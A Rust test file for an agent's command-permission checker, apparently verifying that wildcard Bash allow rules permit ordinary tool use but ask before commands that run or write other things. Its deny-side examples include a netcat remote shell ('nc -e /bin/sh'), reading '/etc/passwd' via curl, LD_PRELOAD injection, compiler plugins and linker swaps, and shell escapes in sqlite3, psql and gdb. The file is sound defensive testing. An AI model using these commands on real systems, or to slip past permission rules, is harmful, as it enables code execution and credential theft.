//! Rules with a wildcard for programs without a complete grammar: what runs or writes something else asks,
//! ordinary use runs.

use qwen_events::Verdict;
use qwen_permissions::Mode;

use crate::Desk;

/// A rule, commands that it does not cover, and commands that it covers.
struct Row(&'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const ROWS: &[Row] = &[
    Row("Bash(split *)", &["split --filter='touch X' a", "split --filt=x a"], &["split -n 2 a", "split -b 10 a part-"]),
    Row("Bash(shuf *)", &["shuf -oX a", "shuf -eo X a", "shuf --outp=X a"], &["shuf -n 1 a", "shuf -i 1-9", "shuf -e a o"]),
    Row("Bash(iconv *)", &["iconv -oX a", "iconv -c -oX a"], &["iconv -fiso-8859-1 -t utf-8 a", "iconv -l"]),
    Row("Bash(zip *)", &["zip -T -TT ./evil a.zip a", "zip a.zip a -T --unzip-command ./evil", "zip -O X a.zip a"], &["zip -r a.zip a", "zip -q9 a.zip a -x '*.o'"]),
    Row("Bash(openssl *)", &["openssl dgst -out X a", "openssl x509 -engine ./e.so"], &["openssl dgst -sha256 a", "openssl version"]),
    Row(
        "Bash(sqlite3 *)",
        &["sqlite3 a.db '.shell touch X'", "sqlite3 a.db", "sqlite3 -cmd .help a.db", "sqlite3 a.db \"select writefile('X','')\"", "sqlite3 -init f a.db 'select 1'"],
        &["sqlite3 a.db 'select 1'", "sqlite3 -header a.db .tables", "sqlite3 --version"],
    ),
    Row("Bash(psql *)", &["psql -c '\\! touch X'", "psql -f x", "psql db", "psql -c \"copy t to program 'x'\""], &["psql -c 'select 1'", "psql -l"]),
    Row("Bash(strace *)", &["strace touch X", "strace -o X ls", "strace -E LD_PRELOAD=./e ls", "strace -f sh -c 'touch X'"], &["strace ls", "strace -f -e trace=file ls a"]),
    Row("Bash(flock *)", &["flock a touch X", "flock a -c 'touch X'", "flock -n a ./evil"], &["flock a cat a", "flock -n a ls"]),
    Row("Bash(gdb *)", &["gdb -batch -ex '!touch X'", "gdb a"], &["gdb --version"]),
    Row("Bash(ed *)", &["ed a", "ed -s a"], &["ed --version"]),
    Row("Bash(tmux *)", &["tmux new -d 'touch X'", "tmux run-shell x"], &["tmux ls", "tmux list-sessions"]),
    Row("Bash(crontab *)", &["crontab a", "crontab -e", "crontab"], &["crontab -l"]),
    Row("Bash(nc *)", &["nc -e /bin/sh h 1", "nc -lc x"], &["nc -z h 80", "nc -vz h 80"]),
    Row("Bash(apt-get *)", &["apt-get update -o APT::Update::Pre-Invoke::=x", "apt-get -oX=y install a"], &["apt-get install -y a", "apt-get update"]),
    Row("Bash(pytest *)", &["pytest -p evil", "pytest --junitxml=X", "pytest -c other.ini", "pytest --log-file=X", "pytest --override-ini=addopts=-pevil", "pytest --overr=a=b", "pytest --pdbcls=evil:Pdb"], &["pytest", "pytest -x -q", "pytest -k 'a and b' tests", "pytest -p no:cacheprovider", "pytest -vv --maxfail=1"]),
    Row("Bash(gcc *)", &["gcc -wrapper ./evil a.c", "gcc -fplugin=./e.so a.c", "gcc -B. a.c", "gcc @x", "gcc -specs=x a.c", "gcc --prefix=. a.c", "gcc --prefix . a.c"], &["gcc -O2 -Wall -o a a.c", "gcc -c a.c -Iinclude", "gcc --version"]),
    Row("Bash(rustc *)", &["rustc -C linker=./evil a.rs", "rustc -Clinker=x a.rs"], &["rustc -O a.rs", "rustc --version"]),
    Row("Bash(cmake *)", &["cmake -E touch X", "cmake -P x.cmake", "cmake -DCMAKE_C_COMPILER=./evil ."], &["cmake -S . -B build", "cmake --build build", "cmake -DCMAKE_BUILD_TYPE=Release ."]),
    Row(
        "Bash(npm *)",
        &["npm exec -c 'touch X'", "npm x --call=x", "npm config set script-shell ./evil", "npm set x y", "npm pkg set scripts.test=x", "npm --prefix ../other test", "npm --userconfig x test", "npm test --shell=x", "npm explore a -- x"],
        &["npm test", "npm ci", "npm run build", "npm install a", "npm run lint -- --fix -c x", "npm config get registry", "npm --prefix web test", "npm pkg get name", "npm audit"],
    ),
    Row("Bash(cargo *)", &["cargo --config x=y check", "cargo rustc -Clinker=./e", "cargo rustc -- -C linker=./e", "cargo rustdoc -- -Clinker=./e", "cargo run --manifest-path ../x/Cargo.toml", "cargo -C /x check"], &["cargo test", "cargo build --release", "cargo test -- --nocapture", "cargo clippy --all-targets -- -D warnings", "cargo run --manifest-path sub/Cargo.toml"]),
    Row("Bash(go *)", &["go test -exec ./evil ./...", "go env -w GOFLAGS=x", "go build -ldflags=-extld=./evil", "go build -C /x", "go build -gccgoflags=-wrapper=./e", "go build -overlay=x.json"], &["go test ./...", "go get -u ./...", "go build -o bin/a .", "go vet ./...", "go env GOPATH"]),
    Row("Bash(mvn *)", &["mvn exec:exec -Dexec.executable=touch", "mvn -f ../pom.xml test"], &["mvn -q test", "mvn -fae test", "mvn -DskipTests package"]),
    Row("Bash(python3 -m pytest *)", &["python3 -m pytest -p evil", "python3 -m pytest --junitxml=X", "python3 -m pytest -c x.ini"], &["python3 -m pytest -q", "python3 -m pytest tests -k a -x"]),
    Row("Bash(python3 -m json.tool *)", &["python3 -m json.tool a.json X", "python3 -m json.tool --json-lines a X"], &["python3 -m json.tool a.json", "python3 -m json.tool --indent=2 a.json"]),
    Row("Bash(docker ps *)", &["docker ps --config x", "docker ps -H unix:///x", "docker ps --host=x"], &["docker ps -a", "docker ps --format json -q"]),
    Row("Bash(docker *)", &["docker --config=x ps", "docker -H tcp://x ps"], &["docker build -t a .", "docker run --rm -h name a ls", "docker compose up -d", "docker ps --filter name=x"]),
    Row("Bash(kubectl get *)", &["kubectl get pods --kubeconfig=x", "kubectl get pods --cache-dir=X", "kubectl get pods --kubeconfig x"], &["kubectl get pods -n a -o wide", "kubectl get pods --context a -o yaml"]),
    Row("Bash(helm *)", &["helm template . --post-renderer ./evil", "helm list --kubeconfig=x"], &["helm list -A", "helm template . -f values.yaml"]),
    Row("Bash(uv *)", &["uv run --python ./evil a", "uv pip install --python=./evil a", "uv -p ./evil run a"], &["uv run pytest -q", "uv sync --frozen", "uv run --python 3.12 a.py", "uv pip install -r requirements.txt"]),
    Row("Bash(just *)", &["just --shell ./evil a", "just -f x a"], &["just test", "just --list"]),
    Row(
        "Bash(curl *)",
        &["curl file:///etc/passwd", "curl FILE:///etc/passwd", "curl -o X http://a", "curl -so X http://a", "curl -w @file http://a", "curl -w '%output{X}a' http://a"],
        &["curl -fsSL https://example.com/file:x", "curl -so /dev/null -w '%{http_code}' http://a", "curl -o - http://a", "curl --output=/dev/null http://a"],
    ),
    Row("Bash(wget *)", &["wget -O X http://a", "wget -qO X http://a", "wget --output-document=X http://a"], &["wget -qO- http://a", "wget -q -O - http://a", "wget -O /dev/null http://a"]),
    Row("Bash(awk *)", &["awk '{ print > \"X\" }' a", "awk '{ print | \"x\" }' a"], &["awk '$3 > 10' a", "awk '/a|b/ { print $1 }' a", "awk -F: '{ print $1 }' a"]),
    Row("Bash(tool *)", &["tool -oX", "tool -O/x", "tool -out x", "tool --out=x"], &["tool -ojson", "tool -only", "tool -x -v", "tool --filter=web"]),
    Row("Bash(gh *)", &["gh alias set x '!touch X'", "gh extension exec x", "gh ext install a/b", "gh config set editor ./evil"], &["gh pr list", "gh pr create --title alias --body b", "gh alias list", "gh config get editor", "gh issue view 1"]),
    Row("Bash(ip *)", &["ip netns exec a touch X", "ip -b x"], &["ip -br addr", "ip route"]),
    Row(
        "Bash(git *)",
        &["git archive --output=X HEAD", "git archive -o X HEAD", "git archive --exec=x --remote=. HEAD", "git format-patch -o x -1", "git bisect run ./evil", "git bisect view", "git submodule foreach ./evil", "git submodule --quiet foreach x", "git maintenance start", "git hook run x", "git filter-branch"],
        &["git archive HEAD", "git format-patch -1", "git bisect start", "git bisect good HEAD", "git submodule update --init --recursive", "git submodule status", "git gc", "git fsck", "git sparse-checkout list"],
    ),
    Row("Bash(yq *)", &["yq -i . a", "yq --inplace . a"], &["yq .a b.yml", "yq -r .a b.yml"]),
];

#[test]
fn a_wildcard_covers_ordinary_use_and_nothing_that_runs_or_writes_something_else() {
    let mut wrong = Vec::new();
    for Row(rule, asks, runs) in ROWS {
        let desk = Desk::new(Mode::Default).allow(&[rule]);
        let expected = asks.iter().map(|command| (command, Verdict::Ask));
        for (command, verdict) in expected.chain(runs.iter().map(|command| (command, Verdict::Allow))) {
            let decision = desk.run(command).decision;
            if decision.verdict != verdict {
                wrong.push(format!("{rule}: {command}: {:?}, {}", decision.verdict, decision.reason));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
